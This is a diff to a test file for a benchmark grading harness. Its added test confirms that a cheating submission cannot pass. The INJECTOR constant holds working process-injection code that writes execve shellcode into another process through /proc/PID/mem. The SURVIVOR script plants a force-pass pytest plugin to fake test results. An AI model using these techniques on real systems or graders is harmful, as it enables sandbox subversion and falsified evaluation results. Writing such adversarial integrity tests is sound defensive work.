@@ -6,6 +6,8 @@ the submission ran survives into grading, the harness checks with its own tools,
 
 from __future__ import annotations
 
+import os
+import socket
 import subprocess
 import time
 import uuid
@@ -17,13 +19,13 @@ import pytest
 from programbench.utils.load_data import get_active_branches
 
 from pytest_programbench import RUN_LABEL
-from pytest_programbench.engine import docker_engine
+from pytest_programbench.engine import docker_engine, ownership, reaper
 from pytest_programbench.engine.container import Container
-from pytest_programbench.engine.docker_engine import Labels
 from pytest_programbench.engine.images import ensure_image
-from pytest_programbench.evaluation import harness_material, integrity
+from pytest_programbench.engine.ownership import OWNER_LABEL, Owner, boot_id
+from pytest_programbench.evaluation import harness_material
 from pytest_programbench.evaluation.container_layer import SdkContainerEnvironment
-from pytest_programbench.evaluation.evaluation import EvalSettings, EvaluationOutcome, evaluate
+from pytest_programbench.evaluation.evaluation import EvalSettings, EvaluationOutcome
 from pytest_programbench.evaluation.step_batch import Step
 from pytest_programbench.tasks.blobs import resolve_blobs
 from pytest_programbench.tasks.catalogue import Task
@@ -33,6 +35,7 @@ from tests.test_evaluation_integrity import NOPE_COMPILE
 from tests.test_evaluation_parity import (
     CATLIKE,
     RPN,
+    evaluate_swept,
     instances,
     official_blob_dir,
     official_score,
@@ -110,6 +113,36 @@ def test_a_grader_volume_is_read_only_checked_made_once_and_swept(docker_client:
     assert harness_material.remove_grader_volumes(docker_client, run_id) == [remade.volume]
 
 
+def test_the_reaper_removes_a_dead_runs_grader_volumes(docker_client: Any, testbed: Testbed, run_id: str) -> None:
+    """A session that died leaves its grader volumes: the next session's reaper removes them with its containers and
+    images; a live run's volume stays."""
+    doomed = subprocess.Popen(["sleep", "900"])
+    began = ownership.process_start_time(doomed.pid)
+    assert began is not None
+    dead_owner = Owner(socket.gethostname(), doomed.pid, began + 1.0, boot_id())
+    live_run = f"{run_id}-live"
+    live_owner = Owner(socket.gethostname(), os.getpid(), time.time(), boot_id())
+    files = {"w.whl": b"wheel"}
+    try:
+        dead = harness_material.grader_mount(docker_client, files, target="/t", image=_image(testbed),
+                                             labels={RUN_LABEL: run_id, OWNER_LABEL: dead_owner.label()})
+        live = harness_material.grader_mount(docker_client, files, target="/t", image=_image(testbed),
+                                             labels={RUN_LABEL: live_run, OWNER_LABEL: live_owner.label()})
+        doomed.kill()
+        doomed.wait()
+        report = reaper.reap_dead_runs(None, engine=docker_client, runs=[run_id, live_run], slot_dirs=False)
+        assert report.volumes == [dead.volume]
+        assert run_id in report.dead_runs
+        assert live_run in report.live_runs
+        assert [v["Name"] for v in docker_client.api.volumes(filters={"label": f"{RUN_LABEL}={live_run}"})
+                ["Volumes"] or []] == [live.volume]
+    finally:
+        doomed.kill()
+        doomed.wait()
+        harness_material.remove_grader_volumes(docker_client, live_run)
+    assert _leftovers(docker_client, live_run) == []
+
+
 def run_ours(task: Task, archive: Path, testbed: Testbed, tmp_path: Path, *, reruns: bool,
              **settings: Any) -> EvaluationOutcome:
     """tests.test_evaluation_parity's, under this module's own run label (its leftovers are checked)."""
@@ -118,40 +151,73 @@ def run_ours(task: Task, archive: Path, testbed: Testbed, tmp_path: Path, *, rer
                           cache_dir=tmp_path / "cache")
     with environment_engine() as engine:
         image = ensure_image(task, pull="never", engine=engine)
-        return evaluate(task, archive, blobs=blobs, image=image.id, labels=Labels(TEST_RUN),
-                        settings=EvalSettings(cpus=2, reruns=reruns, **settings), workdir=tmp_path, engine=engine)
+        # Its own run: its grader volumes removed after it, and nothing of it left (evaluate_swept checks).
+        return evaluate_swept(task, archive, blobs=blobs, image=image.id, workdir=tmp_path, engine=engine,
+                              run_id=f"{TEST_RUN}-{uuid.uuid4().hex[:8]}",
+                              settings=EvalSettings(cpus=2, reruns=reruns, **settings))
 
 
-def _no_leftovers(docker_client: Any) -> None:
-    """What the evaluations of these tests made is gone (their grader volumes are the run's: swept here)."""
-    harness_material.remove_grader_volumes(docker_client, TEST_RUN)
-    assert _leftovers(docker_client, TEST_RUN) == []
+# compile.sh's survivor: rewrites the container's keep-alive (the process with the earliest start, which a stop of
+# "everything but the container's command" spares) through /proc/PID/mem into an execve of SURVIVOR, keeping its pid
+# and start time. Root in the container may write another root process's memory (no CAP_SYS_PTRACE needed).
+INJECTOR = b"""import os, signal, struct, sys
+script = sys.argv[1].encode()
+def start(pid):
+    with open(f"/proc/{pid}/stat") as f:
+        return int(f.read().rsplit(") ", 1)[1].split()[19])
+me = os.getpid()
+found = []
+for name in os.listdir("/proc"):
+    if name.isdigit() and int(name) not in (1, me):
+        try:
+            found.append((start(int(name)), int(name)))
+        except OSError:
+            pass
+target = min(found)[1]
+with open(f"/proc/{target}/syscall") as f:
+    addr = int(f.read().split()[-1], 16) - 2  # its blocked syscall instruction: re-run after a stop
+p_sh = addr + 64
+p_script = p_sh + 8
+p_argv = (p_script + len(script) + 8) & ~7
+code = (b"\\x48\\xbf" + struct.pack("<Q", p_sh) + b"\\x48\\xbe" + struct.pack("<Q", p_argv) + b"\\x31\\xd2"
+        + b"\\xb8\\x3b\\x00\\x00\\x00\\x0f\\x05")  # execve("/bin/sh", argv, NULL)
+blob = code.ljust(64, b"\\x90") + b"/bin/sh\\0" + script + b"\\0"
+blob = blob.ljust(p_argv - addr, b"\\0") + struct.pack("<QQQ", p_sh, p_script, 0)
+fd = os.open(f"/proc/{target}/mem", os.O_RDWR)
+os.pwrite(fd, blob, addr)
+os.close(fd)
+os.kill(target, signal.SIGSTOP)
+os.kill(target, signal.SIGCONT)
+"""
+# Waits for the install step (pip running, or its files replayed), then keeps a force-pass plugin and a .pth loading it
+# in site-packages: after every scan of the compile container, before its commit.
+SURVIVOR = (b"while [ ! -e /opt/programbench-stashed-executable-do-not-modify ]; do sleep 0.01; done\n"
+            b"until grep -qs 'pip[3]' /proc/[0-9]*/cmdline || ls -d /usr/local/lib/python3*/dist-packages/"
+            b"pytest_rerunfailures* >/dev/null 2>&1; do sleep 0.01; done\n"
+            b"while :; do cp /workspace/pbforce.txt " + SITE.encode() + b"/pbforce.py;"
+            b" echo 'import os; os.environ[\"PYTEST_PLUGINS\"] = \"pbforce\"' > " + SITE.encode()
+            + b"/zz-pbforce.pth; sleep 0.05; done\n")
 
 
-def test_a_process_the_stop_spared_never_reaches_grading(testbed: Testbed, tmp_path: Path, docker_client: Any,
-                                                          monkeypatch: pytest.MonkeyPatch) -> None:
-    """The /proc/PID/mem survivor: a process of compile.sh that the stop spares (here the stop does nothing, as the
-    rewritten keep-alive `sleep` made it spare the attacker) waits for the official hash step and then writes a
-    force-pass plugin and a .pth loading it into site-packages. Either it wrote before the compile container was
-    frozen (then that is flagged) or it died with the container: `echo nope` never passes unflagged, and the install
+def test_a_process_the_stop_spared_never_reaches_grading(testbed: Testbed, tmp_path: Path,
+                                                          docker_client: Any) -> None:
+    """The /proc/PID/mem survivor: compile.sh turns the compile container's keep-alive into its own program (same
+    pid, same start time, so the stop after compile.sh spares it); once the install step runs it writes a force-pass
+    plugin and a .pth loading it into site-packages. When the install step ran in the compile container (the old
+    construction) `echo nope` passed 1.0 unflagged; now that container is frozen and removed after the hash step and
+    the install step runs in a fresh one: the survivor never writes, `echo nope` scores its 0, and the install
     record, made in a container of the task's image, never holds its files: an honest wrong program later gets the
     score it gets officially."""
-    monkeypatch.setattr(SdkContainerEnvironment, "stop_processes", lambda self, **_: 0)
-    writer = (
-        "(while [ ! -e /opt/programbench-stashed-executable-do-not-modify ]; do sleep 0.01; done;"
-        f" while true; do cp pbforce.txt {SITE}/pbforce.py;"
-        f" echo 'import os; os.environ[\"PYTEST_PLUGINS\"] = \"pbforce\"' > {SITE}/zz-pbforce.pth;"
-        " sleep 0.05; done) >/dev/null 2>&1 </dev/null &\n").encode()
     src = tmp_path / "src"
     src.mkdir()
-    archive = pack(src, tmp_path / "survivor.tar.gz", extra={"compile.sh": NOPE_COMPILE + writer,
-                                                            "pbforce.txt": FORCE_PASS})
+    compile_sh = NOPE_COMPILE + b"python3 pbinject.py /workspace/pbsurvive.sh\n"
+    archive = pack(src, tmp_path / "survivor.tar.gz", extra={"compile.sh": compile_sh, "pbinject.py": INJECTOR,
+                                                            "pbsurvive.sh": SURVIVOR, "pbforce.txt": FORCE_PASS})
     records = tmp_path / "records"
     outcome = run_ours(tasks(testbed)[CATLIKE], archive, testbed, tmp_path / "a", reruns=True,
                        install_cache=str(records))
     assert outcome.infra_error is None
-    kinds = {f.kind for f in outcome.integrity_flags}
-    assert outcome.score < 1.0 or integrity.CHANGED_AFTER_COMPILE in kinds, (outcome.score, kinds)
+    assert outcome.score == 0.0, (outcome.score, outcome.integrity_flags)
     for record in records.glob("*/files.tar"):
         assert b"pbforce" not in record.read_bytes()
     # An honest wrong program of the same image, replaying that record: its official statuses.
@@ -159,7 +225,6 @@ def test_a_process_the_stop_spared_never_reaches_grading(testbed: Testbed, tmp_p
                       reruns=False, install_cache=str(records))
     assert honest.score < 1.0
     assert honest.integrity_flags == []
-    _no_leftovers(docker_client)
 
 
 def pack_wrong_rpn(testbed: Testbed, tmp_path: Path) -> Path:
@@ -202,7 +267,6 @@ def test_the_harness_checks_with_its_own_tools(testbed: Testbed, tmp_path: Path,
     ours_nope = run_ours(tasks(testbed)[RPN], nope, testbed, tmp_path / "ours-nope", reruns=True)
     assert ours_nope.score == official_score(official_nope, instance) < 1.0
     assert ours_nope.reruns, ours_nope.reruns_reason
-    _no_leftovers(docker_client)
 
 
 def test_a_hash_step_whose_output_is_huge_is_parsed_whole(testbed: Testbed, tmp_path: Path, docker_client: Any,
@@ -222,7 +286,6 @@ def test_a_hash_step_whose_output_is_huge_is_parsed_whole(testbed: Testbed, tmp_
     assert ours.result is not None
     assert ours.result.test_branch_errors == official.test_branch_errors == {}
     assert ours.score == official_score(official, instance) == 1.0
-    _no_leftovers(docker_client)
 
 
 def test_a_batched_step_keeps_its_output_read_as_docker_exec_does(testbed: Testbed, docker_client: Any,
